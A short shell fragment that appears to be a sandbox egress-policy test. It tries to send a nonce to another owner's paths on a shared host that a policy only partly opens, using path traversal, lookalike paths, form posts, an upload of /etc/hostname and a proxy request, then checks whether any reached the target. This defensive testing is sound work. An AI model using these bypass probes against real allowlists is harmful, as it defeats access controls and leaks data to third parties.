# A policy opens one part of a host that many share; data goes to another owner's part by every way there is.
o=$(for p in /other/repo/issues /apiother/repo /gists "/upload?d=$NONCE" /api/../other/repo; do via --path-as-is "https://$RO$p?d=$NONCE"; via --path-as-is -d "d=$NONCE" "https://$RO$p"; done
  via -T /etc/hostname "https://$RO/other/bucket/$NONCE"; via -F "d=$NONCE" "https://$RO/other/release"; curl -sSk --max-time "$T" -x http://proxy.sandbox.internal:3128 "http://$RO/other/$NONCE" 2>/dev/null)
seen "$o" 'PATH:/'
